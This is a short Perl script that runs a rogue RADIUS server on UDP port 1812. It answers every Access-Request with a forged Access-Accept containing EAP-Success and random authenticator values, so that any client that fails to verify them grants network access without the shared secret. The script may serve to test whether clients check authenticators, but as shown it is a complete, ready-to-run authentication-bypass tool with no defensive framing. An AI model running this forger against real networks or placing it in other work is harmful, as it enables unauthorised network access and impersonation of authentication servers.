# Answers each Access-Request with an Access-Accept that no secret was needed for, and a Message-Authenticator of chance.
use strict;
use IO::Socket::INET;

my $socket = IO::Socket::INET->new(Proto => "udp", LocalPort => 1812) or die "no socket: $!";
$| = 1;
print "forging\n";
while (defined(my $from = $socket->recv(my $request, 4096))) {
    my ($code, $identifier) = unpack("CC", $request);
    next if $code != 1;
    # EAP-Message: EAP-Success; keys of chance would not be worse than none.
    my $attributes = pack("CCCCn", 79, 6, 3, 0, 4) . pack("CC", 80, 18) . join("", map { chr(int(rand(256))) } 1 .. 16);
    my $authenticator = join("", map { chr(int(rand(256))) } 1 .. 16);
    $socket->send(pack("CCn", 2, $identifier, 20 + length($attributes)) . $authenticator . $attributes, 0, $from);
    print "forged\n";
}
